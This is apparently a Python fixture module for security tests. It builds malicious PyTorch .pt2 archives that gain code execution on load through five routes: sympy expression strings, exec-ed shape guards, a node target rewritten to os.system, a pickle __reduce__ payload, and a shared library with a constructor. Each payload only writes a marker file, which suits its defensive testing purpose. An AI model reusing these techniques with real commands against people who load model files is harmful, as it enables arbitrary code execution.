"""Hostile ``.pt2`` archives for the security tests: each one makes a bare ``torch.export.load``
(or the ``.module()`` it returns) run code that writes a marker file.

Not a test module. ``write_payloads(directory, marker)`` writes one archive per way in:

- ``aotinductor``: a shared library under ``data/aotinductor/`` (its constructor writes the marker
  when PyTorch ``dlopen``s it; needs ``gcc``);
- ``expr_str``: Python in a symbolic size's ``expr_str`` (``sympy.sympify`` evaluates it);
- ``guards_code``: Python in a shape guard (pasted into source and ``exec``-ed by ``.module()``);
- ``opaque_obj``: a constant stored as ``opaque_obj_0`` (``pickle.loads``-ed);
- ``target``: a node whose target walks from ``torch`` to ``os.system``.

Every archive is a valid exported program apart from its payload, so a loader that does not look
inside would accept it.
"""

from __future__ import annotations

import json
import pickle
import shutil
import subprocess
import zipfile
from pathlib import Path

import torch


def write_plain(path: Path) -> Path:
    """A small exported MLP (dynamic batch) saved with ``torch.export.save``."""
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3)).eval()
    batch = torch.export.Dim("batch")
    ep = torch.export.export(model, (torch.randn(2, 4),), dynamic_shapes=({0: batch},))
    torch.export.save(ep, str(path))
    return path


class _Shell:
    """Unpickling this runs ``command`` (the classic pickle payload)."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os

        return (os.system, (self.command,))


def _rewrite(src: Path, dst: Path, model_json=None, constants=None, extra: dict[str, bytes] | None = None):
    with zipfile.ZipFile(src) as z:
        root = z.namelist()[0].split("/")[0]
        with zipfile.ZipFile(dst, "w") as out:
            for info in z.infolist():
                data = z.read(info.filename)
                rel = info.filename[len(root) + 1 :]
                if rel == "models/model.json" and model_json:
                    data = model_json(data.decode()).encode()
                if rel == "data/constants/model_constants_config.json" and constants:
                    data = json.dumps(constants).encode()
                out.writestr(info.filename, data)
            for rel, data in (extra or {}).items():
                out.writestr(f"{root}/{rel}", data)
    return dst


def write_payloads(directory: Path, marker: Path) -> dict[str, Path]:
    """One hostile archive per way in (see the module docstring), each writing ``marker`` if run."""
    directory.mkdir(parents=True, exist_ok=True)
    plain = write_plain(directory / "plain.pt2")
    touch = f"touch {marker}"
    out: dict[str, Path] = {}
    with zipfile.ZipFile(plain) as z:
        doc = json.loads(z.read(next(n for n in z.namelist() if n.endswith("models/model.json"))))
    sym = f"Symbol('{next(iter(doc['range_constraints']))}', positive=True, integer=True)"
    out["expr_str"] = _rewrite(
        plain,
        directory / "expr_str.pt2",
        model_json=lambda t: t.replace(sym, f"__import__('os').system('{touch}') or {sym}", 1),
    )
    out["guards_code"] = _rewrite(
        plain,
        directory / "guards_code.pt2",
        model_json=lambda t: t.replace(
            '"guards_code": []', f"\"guards_code\": [\"__import__('os').system('{touch}') == 0\"]"
        ),
    )
    out["target"] = _rewrite(
        plain,
        directory / "target.pt2",
        model_json=lambda t: t.replace('"torch.ops.aten.relu.default"', '"torch.serialization.os.system"', 1),
    )
    opaque = {
        "config": {
            "x": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
        }
    }
    out["opaque_obj"] = _rewrite(
        plain,
        directory / "opaque_obj.pt2",
        constants=opaque,
        extra={"data/constants/opaque_obj_0": pickle.dumps(_Shell(touch))},
    )
    gcc = shutil.which("gcc") or shutil.which("cc")
    if gcc:
        src = directory / "payload.c"
        src.write_text(
            "#include <stdio.h>\n"
            "__attribute__((constructor)) static void nnv_payload(void) {\n"
            f'  FILE *f = fopen("{marker}", "w"); if (f) fclose(f);\n'
            "}\n"
        )
        lib = directory / "payload.so"
        subprocess.run([gcc, "-shared", "-fPIC", "-o", str(lib), str(src)], check=True, capture_output=True)
        meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()
        out["aotinductor"] = _rewrite(
            plain,
            directory / "aotinductor.pt2",
            extra={
                "data/aotinductor/model/payload.so": lib.read_bytes(),
                "data/aotinductor/model/payload.wrapper_metadata.json": meta,
                "data/aotinductor/model/payload_metadata.json": meta,
            },
        )
    return out
